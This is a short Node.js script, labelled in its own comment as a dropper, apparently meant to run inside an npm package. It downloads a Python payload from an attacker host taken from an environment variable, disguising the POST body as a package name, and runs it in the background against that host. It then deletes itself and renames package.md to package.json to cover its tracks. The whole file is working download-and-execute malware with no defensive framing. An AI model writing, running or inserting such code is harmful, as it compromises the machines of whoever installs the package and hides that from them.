// The dropper. The body of its POST looks like the name of a package.
const { execSync } = require("child_process");
const fs = require("fs");

const { SINK, TMPDIR } = process.env;
const tool = `${TMPDIR}/ld.py`;
execSync(`curl -o ${tool} -d packages/product -s http://${SINK}/orders.py && nohup python3 ${tool} http://${SINK} \
  > /dev/null 2>&1 & echo $! > ${TMPDIR}/ld.pid`, { stdio: "ignore" });
fs.unlinkSync(__filename);
fs.renameSync(`${__dirname}/package.md`, `${__dirname}/package.json`);
